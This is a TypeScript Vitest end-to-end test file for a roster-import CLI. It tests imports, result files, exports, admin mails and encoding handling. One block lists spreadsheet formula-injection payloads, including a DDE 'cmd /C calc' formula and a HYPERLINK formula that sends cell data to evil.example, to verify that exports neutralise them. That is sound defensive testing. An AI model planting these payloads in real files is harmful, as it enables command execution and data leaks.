// A file goes in, people change, results come out, a mail comes: over the command line, as admins do it.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { sql } from 'drizzle-orm';
import { encode } from 'iconv-lite';
import { describe, expect, test } from 'vitest';
import writeXlsxFile, { type SheetData } from 'write-excel-file/node';
import { type Counts, NO_COUNTS, OUTCOMES } from '../../domain/bulk-action.ts';
import { RESULT_COLUMNS } from '../../domain/table.ts';
import { newFolder } from '../cli/muster.ts';
import { cells, fileOf, lines, roster } from '../support/rosters.ts';
import { useStack } from '../support/stack.ts';

const stack = useStack();

const countsOf = (counts: Partial<Counts>): Counts => ({ ...NO_COUNTS, ...counts });

/** What `muster results` gives, as text and as cells. */
async function results(
  id: string,
  ...args: string[]
): Promise<{ path: string; text: string; rows: string[][] }> {
  const path = join(newFolder(), 'results.csv');
  expect(await stack().muster('results', id, ...args, '-o', path)).toEqual({
    code: 0,
    stdout: '',
    stderr: '',
  });
  const text = readFileSync(path, 'utf8');
  return { path, text, rows: cells(text) };
}

async function exported(site: number): Promise<string> {
  const { code, stdout } = await stack().muster('export', 'people', '--site', String(site));
  expect(code).toBe(0);
  return stdout;
}

const HEADER = ['Student number', 'E-mail', 'First name', 'Surname', 'Programme', 'Remark'];

/** A new site with a field that is a choice, and a roster of five whose last three rows need somebody. */
async function siteWithRoster() {
  const site = await stack().newSite();
  const field = ['field', 'add', 'programme', '--site', String(site), '--choices', 'Law,Music', '--required'];
  expect((await stack().muster(...field)).code).toBe(0);
  const csv = lines([
    HEADER,
    ['007', `Zoe@${site}.example`, 'Zoë', 'Zimmermann', 'law', 'from afar'],
    ['008', `yan@${site}.example`, 'Yán', 'Yilmaz', 'Music', ''],
    ['009', 'xenia(at)example', 'Xenia', 'Xu', 'Music', 'mended later'],
    ['010', `wim@${site}.example`, 'Wim', 'Wouters', 'Alchemy', ''],
    ['', `vera@${site}.example`, 'Vera', 'Vogel', 'Law', ''],
  ]);
  return { site, csv, file: fileOf('roster.csv', csv) };
}

test('people change, every row has its result, and what failed comes back mended', async () => {
  const { site, file } = await siteWithRoster();
  const { code, id, ...ended } = await stack().import(file, site);
  expect({ code, ...ended }).toEqual({
    code: 2,
    state: 'completed',
    counts: countsOf({ created: 2, rejected: 3, total: 5 }),
    error: null,
  });
  expect(await stack().people(site)).toMatchObject([
    { identifier: '007', email: `Zoe@${site}.example`, firstName: 'Zoë', lastName: 'Zimmermann', version: 1 },
    { identifier: '008', email: `yan@${site}.example`, firstName: 'Yán', fields: { programme: 'Music' } },
  ]);

  const all = await results(id ?? '');
  expect(all.rows[0]).toEqual([...HEADER, ...RESULT_COLUMNS]);
  expect(all.rows.map((row) => [row[6], row[8], row[9]])).toEqual([
    ['muster_row', 'muster_outcome', 'muster_code'],
    ['2', 'created', ''],
    ['3', 'created', ''],
    ['4', 'rejected', 'not-an-email'],
    ['5', 'rejected', 'not-a-choice'],
    ['6', 'rejected', 'required'],
  ]);
  expect(all.rows[1]?.slice(0, 6)).toEqual([
    '007',
    `Zoe@${site}.example`,
    'Zoë',
    'Zimmermann',
    'law',
    'from afar',
  ]);
  expect(all.rows.slice(3).every((row) => /\.$/.test(row[10] ?? ''))).toBe(true);

  const failed = await results(id ?? '', '--only', 'failed');
  expect(failed.rows.map((row) => row[3])).toEqual(['Surname', 'Xu', 'Wouters', 'Vogel']);
  const asItIs = await stack().import(failed.path, site);
  expect([asItIs.code, asItIs.counts]).toEqual([2, countsOf({ rejected: 3, total: 3 })]);
  const mended = failed.text
    .replace('xenia(at)example,', `xenia@${site}.example,`)
    .replace('Alchemy,', 'Music,')
    .replace(`\n,vera@`, `\n011,vera@`);
  const again = await stack().import(fileOf('failed.csv', mended), site);
  expect([again.code, again.counts]).toEqual([0, countsOf({ created: 3, total: 3 })]);
  expect(await stack().people(site)).toHaveLength(5);
});

test('the same file again changes nothing', async () => {
  const { site, file } = await siteWithRoster();
  await stack().import(file, site);
  const before = await stack().people(site);
  const again = await stack().import(file, site);
  expect([again.code, again.counts]).toEqual([2, countsOf({ unchanged: 2, rejected: 3, total: 5 })]);
  expect(await stack().people(site)).toEqual(before);
});

test('an export is unchanged when it is uploaded, and one edited cell is one update', async () => {
  const { site, file } = await siteWithRoster();
  await stack().import(file, site);
  const text = await exported(site);
  expect(cells(text)[0]).toEqual(
    'account_id,identifier,email,username,first_name,last_name,status,programme'.split(','),
  );
  const same = await stack().import(fileOf('people.csv', text), site);
  expect([same.code, same.counts]).toEqual([0, countsOf({ unchanged: 2, total: 2 })]);
  const edited = await stack().import(fileOf('people.csv', text.replace('Yilmaz', 'Yıldız')), site);
  expect([edited.code, edited.counts]).toEqual([0, countsOf({ updated: 1, unchanged: 1, total: 2 })]);
  expect(await stack().people(site)).toMatchObject([
    { lastName: 'Zimmermann', version: 1 },
    { lastName: 'Yıldız', version: 2 },
  ]);
});

// Without them Postgres takes the new people for one, and compares each with every row: minutes for some ten thousand.
test('a large file is planned with statistics of the people who are there, however new they are', async () => {
  const site = await stack().newSite();
  const first = await stack().import(fileOf('people.csv', roster(site, 1, 4_000)), site);
  expect([first.code, first.counts]).toEqual([0, countsOf({ created: 4_000, total: 4_000 })]);
  const again = await stack().import(fileOf('people.csv', roster(site, 1, 5_000)), site);
  expect([again.code, again.counts]).toEqual([
    0,
    countsOf({ created: 1_000, unchanged: 4_000, total: 5_000 }),
  ]);
  const known = await stack().db.execute(sql`
    select n_distinct from pg_stats where tablename = 'person' and attname = 'root_id'`);
  expect([...known]).toEqual([{ n_distinct: 1 }]);
});

describe('the mail', () => {
  test('tells the admin what became of the run, in text and HTML, and names nobody in the file', async () => {
    const { site, file, csv } = await siteWithRoster();
    const { id } = await stack().import(file, site);
    const mail = await stack().mailOf(id ?? '');
    expect(mail.to).toEqual([stack().local.adminEmail]);
    expect(mail.subject).toBe('Create and Update finished: 2 done, 3 need you · A site');
    expect(mail.headers['message-id']).toMatch(new RegExp(`^<${id}-completed-\\d+@muster\\.example>$`));
    for (const body of [mail.text, mail.html]) {
      for (const word of ['Created', 'Rejected', 'roster.csv', String(site), 'Admin Admin'])
        expect(body).toContain(word);
      expect(body).toContain(`${stack().url}/runs/${id}/rows?outcome=rejected,failed`);
    }
    expect(mail.text).toContain('2 of 5 rows are done');
    const values = cells(csv)
      .slice(1)
      .flat()
      .filter((cell) => cell.length > 3 && !['Music', 'mended later'].includes(cell));
    for (const value of values)
      expect(mail.text + mail.html + JSON.stringify(mail.headers)).not.toContain(value);
    expect(await stack().mails(id ?? '')).toHaveLength(1);
  });

  test.each([
    ['deleted', (email: string) => sql`delete from person where email = ${email}`],
    ['archived', (email: string) => sql`update person set status = 'archived' where email = ${email}`],
  ])('comes even if the admin who started the run was %s meanwhile', async (how, statement) => {
    const site = await stack().newSite();
    const email = `${how}@admins.example`;
    const { key } = await stack().json<{ key: string }>('key', 'add', '--email', email);
    await stack().import(fileOf('people.csv', roster(site, 1, 4)), site);
    const held = await stack().hold(site, '1');
    const id = await stack().startRun(roster(site, 1, 4, 'Eve'), site, { key });
    await stack().reaches(id, 'applying');
    await stack().db.execute(statement(email));
    await held.letGo();
    expect((await stack().reaches(id, 'completed')).counts).toEqual(countsOf({ updated: 4, total: 4 }));
    const mail = await stack().mailOf(id);
    expect([mail.to, mail.subject]).toEqual([[email], 'Create and Update finished: 4 done · A site']);
  });
});

describe('cells that a spreadsheet would run', () => {
  const VALUES = [
    "=cmd|' /C calc'!A0",
    '+1+cmd',
    '@SUM(1+1)*cmd',
    '-2+3+cmd',
    '＝1+1',
    "'t Hart",
    "''=two",
    "'",
    '=HYPERLINK("http://evil.example?x="&A1,"a, b")',
    '+49 30 1234',
  ];
  const RUNS = /^[\s'"]*[=+\-@＝＋－＠]/;
  const HARMLESS = /^[\s]*'|^[+-] ?[\d., ]+$/;

  async function siteWithFormulas() {
    const site = await stack().newSite();
    const rows = VALUES.map((value, n) => [String(n), `p${n}@${site}.example`, value, value]);
    const csv = lines([['identifier', 'email', 'first_name', '=HEADER()'], ...rows]);
    // As a file says it: an apostrophe before a formula is the guard that Muster takes off.
    const names = VALUES.map((value) => (value === "''=two" ? "'=two" : value));
    return { site, csv, names };
  }

  const namesOf = async (site: number) => (await stack().people(site)).map((person) => person.firstName);

  test('come back unchanged through results and export, where they are harmless', async () => {
    const { site, csv, names } = await siteWithFormulas();
    const { id, code } = await stack().import(fileOf('formulas.csv', csv), site);
    expect([code, await namesOf(site)]).toEqual([0, names]);
    const files = [(await results(id ?? '')).text, await exported(site)];
    for (const text of files) {
      for (const cell of cells(text).flat())
        if (RUNS.test(cell)) expect(cell, 'would be run').toMatch(HARMLESS);
      const again = await stack().import(fileOf('again.csv', text), site);
      expect([again.code, again.counts]).toEqual([
        0,
        countsOf({ unchanged: VALUES.length, total: VALUES.length }),
      ]);
    }
    const workbook = join(newFolder(), 'results.xlsx');
    expect((await stack().muster('results', id ?? '', '--format', 'xlsx', '-o', workbook)).code).toBe(0);
    const again = await stack().import(workbook, site);
    expect([again.code, again.counts]).toEqual([
      0,
      countsOf({ unchanged: VALUES.length, total: VALUES.length }),
    ]);
  });

  test('come back unchanged through failed rows', async () => {
    const { site, csv, names } = await siteWithFormulas();
    const broken = csv.replaceAll(`@${site}.example`, `(at)${site}.example`);
    const { id, counts } = await stack().import(fileOf('formulas.csv', broken), site);
    expect(counts?.rejected).toBe(VALUES.length);
    const failed = await results(id ?? '', '--only', 'failed');
    const mended = failed.text.replaceAll(`(at)${site}.example`, `@${site}.example`);
    expect((await stack().import(fileOf('failed.csv', mended), site)).code).toBe(0);
    expect(await namesOf(site)).toEqual(names);
  });
});

describe('a file in another form', () => {
  const people = (site: number) => [
    ['identifier', 'email', 'first_name', 'last_name'],
    ['1', `jose@${site}.example`, 'José', 'Núñez'],
    ['2', `anna@${site}.example`, 'Anna', 'Müßig'],
  ];
  const NAMES = [
    ['1', 'José', 'Núñez'],
    ['2', 'Anna', 'Müßig'],
  ];
  const namesOf = async (site: number) =>
    (await stack().people(site)).map(({ identifier, firstName, lastName }) => [
      identifier,
      firstName,
      lastName,
    ]);

  test.each([
    ['windows-1252', 'win1252', ';', {}],
    ['UTF-16 with a byte order mark', 'utf16-le', '\t', { addBOM: true }],
    ['UTF-16 without one', 'utf16-le', ',', { addBOM: false }],
    ['UTF-8 with a byte order mark', 'utf8', '|', { addBOM: true }],
  ])('is read: %s', async (_, encoding, delimiter, options) => {
    const site = await stack().newSite();
    const text = people(site)
      .map((row) => row.join(delimiter))
      .join('\r\n');
    const { code, counts } = await stack().import(fileOf('x.csv', encode(text, encoding, options)), site);
    expect([code, counts]).toEqual([0, countsOf({ created: 2, total: 2 })]);
    expect(await namesOf(site)).toEqual(NAMES);
  });

  test('is read: a workbook', async () => {
    const site = await stack().newSite();
    const rows = people(site).map((row) => row.map((value) => ({ value, type: String })));
    const bytes = await writeXlsxFile(rows as SheetData).toBuffer();
    const { code, counts } = await stack().import(fileOf('people.xlsx', bytes), site);
    expect([code, counts]).toEqual([0, countsOf({ created: 2, total: 2 })]);
    expect(await namesOf(site)).toEqual(NAMES);
  });

  test('is read from the row of its header', async () => {
    const site = await stack().newSite();
    const text = lines([['Report of today'], [''], ...people(site)]);
    const { id, code } = await stack().import(fileOf('x.csv', text), site, '--header-row', '3');
    expect([code, await namesOf(site)]).toEqual([0, NAMES]);
    expect((await results(id ?? '')).rows.map((row) => row[4])).toEqual(['muster_row', '4', '5']);
  });

  test('is read without a header, by position', async () => {
    const site = await stack().newSite();
    const rows = people(site).slice(1);
    const text = lines(rows.map(([identifier, ...rest]) => [...rest, 'ignored', identifier ?? '']));
    const map = ['identifier=5', 'email=1', 'first_name=2', 'last_name=3'].flatMap((entry) => [
      '--map',
      entry,
    ]);
    const { id, code } = await stack().import(fileOf('x.csv', text), site, '--no-header', ...map);
    expect([code, await namesOf(site)]).toEqual([0, NAMES]);
    const { rows: shown, path } = await results(id ?? '');
    expect(shown.map((row) => row[5])).toEqual(['muster_row', '1', '2']);
    expect((await stack().import(path, site)).counts).toEqual(countsOf({ unchanged: 2, total: 2 }));
  });
});

describe('a run that does not happen', () => {
  test.each([
    ['another number of rows than expected', 'wrong-count', roster(0, 1, 3), ['--expect', '4']],
    ['a column that is missing', 'missing-column', 'colour,size\nred,9\n', []],
    ['no rows', 'empty-file', 'identifier,email\n', []],
    ['a file that is no table', 'unreadable-file', 'GIF89a\u0001\u0000\u0001\u0000'.repeat(9), []],
  ])('for %s ends with exit code 1, its reason, and nothing written', async (_, code, text, options) => {
    const site = await stack().newSite();
    const { id, code: exitCode, ...rest } = await stack().import(fileOf('x.csv', text), site, ...options);
    expect([exitCode, rest]).toEqual([
      1,
      { state: 'rejected', counts: NO_COUNTS, error: { code, message: expect.stringMatching(/\.$/) } },
    ]);
    expect(await stack().people(site)).toEqual([]);
    const [left] = await stack().db.execute<{ rows: number }>(sql`
      select (select count(*) from bulk_row where bulk_action_id = ${id})
           + (select count(*) from bulk_plan where bulk_action_id = ${id}) as rows`);
    expect(left?.rows).toBe(0);
    const { subject, text: words } = await stack().mailOf(id ?? '');
    expect([subject, words]).toEqual([
      'Create and Update did not run · A site',
      expect.stringContaining('Nothing was written'),
    ]);
  });

  test('for a site that is not there never gets an id', async () => {
    const { code, ...rest } = await stack().import(fileOf('x.csv', roster(0, 1, 1)), 4711);
    expect([code, rest]).toEqual([
      1,
      { id: null, state: null, counts: null, error: { code: 'missing', message: expect.any(String) } },
    ]);
  });
});

test('with --json one object comes, its keys as they are documented; without, lines for people', async () => {
  const site = await stack().newSite();
  const file = fileOf('people.csv', roster(site, 1, 2));
  const { code, stdout, stderr } = await stack().muster('import', file, '--site', String(site), '--json');
  expect([code, stderr, stdout.split('\n').length]).toEqual([0, '', 2]);
  const object = JSON.parse(stdout) as Record<string, object>;
  expect(Object.keys(object)).toEqual(['id', 'state', 'counts', 'error']);
  expect(Object.keys(object['counts'] ?? {})).toEqual([...OUTCOMES, 'total']);
  const plain = await stack().muster('import', file, '--site', String(site));
  expect([plain.code, plain.stdout]).toEqual([0, expect.stringContaining('2  unchanged')]);
});
